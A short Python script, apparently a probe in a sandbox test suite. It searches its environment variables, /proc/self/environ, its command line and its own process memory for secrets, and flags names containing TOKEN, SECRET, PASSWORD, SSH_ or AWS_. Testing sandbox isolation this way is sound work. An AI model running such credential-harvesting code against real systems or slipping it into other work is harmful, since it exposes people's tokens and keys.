"""Looks for secrets in its environment, in its own memory, and in the memory of the process it was forked from."""

# outside: ^environment$
import ctypes
import os
import re

from attack import attempt, read, secrets


def own_memory():
    found = set()
    for line in open("/proc/self/maps"):
        span, rights, *_ = line.split()
        if "r" not in rights or "[v" in line:
            continue
        start, end = (int(word, 16) for word in span.split("-"))
        with open("/proc/self/mem", "rb", buffering=0) as memory:
            while start < end:
                try:
                    memory.seek(start)
                    data = memory.read(min(1 << 20, end - start))
                except (OSError, OverflowError, ValueError):
                    break
                if not data:
                    break
                found.update(secrets(data).split())
                start += max(1, len(data) - 64) if start + len(data) < end else len(data)
    return " ".join(sorted(found))


def c_environment():
    words = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
    return secrets(b"\n".join(iter_words(words)))


def iter_words(words):
    index = 0
    while words[index]:
        yield words[index]
        index += 1


attempt("environment", lambda: secrets("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode()))
attempt("names", lambda: " ".join(k for k in os.environ if re.search("TOKEN|SECRET|PASSWORD|SSH_|AWS_", k)))
attempt("environment of C", c_environment)
attempt("initial environment", lambda: secrets(open("/proc/self/environ", "rb").read()))
attempt("arguments", lambda: secrets(open("/proc/self/cmdline", "rb").read()))
attempt("memory", own_memory)
